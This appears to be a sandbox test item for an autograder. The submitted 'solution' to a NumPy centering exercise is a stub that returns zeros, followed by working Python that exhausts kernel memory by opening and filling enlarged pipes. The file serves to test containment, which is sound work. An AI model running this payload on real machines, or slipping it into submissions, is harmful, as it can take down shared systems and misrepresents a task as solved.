# exercise: broadcasting_rules/center
# tries: to fill the kernel's memory with pipes
# must: the process's own limit ends it; the class goes on
# seen: thought up for this collection, 2026-11
# stock: no: it would use up the machine's memory
# %% solution
import numpy as np
def center(X, axis):
    return np.zeros(np.shape(X))
import fcntl, os
kept, written = [], 0
try:
    while True:
        a, b = os.pipe()
        kept.append((a, b))
        os.set_blocking(b, False)
        try:
            fcntl.fcntl(b, 1031, 1 << 20)  # F_SETPIPE_SZ
        except OSError:
            pass
        try:
            while True:
                written += os.write(b, bytes(1 << 16))
        except BlockingIOError:
            pass
except OSError as error:
    print(error.errno, written)
if written > 2 << 30:
    print("taken".upper(), written)
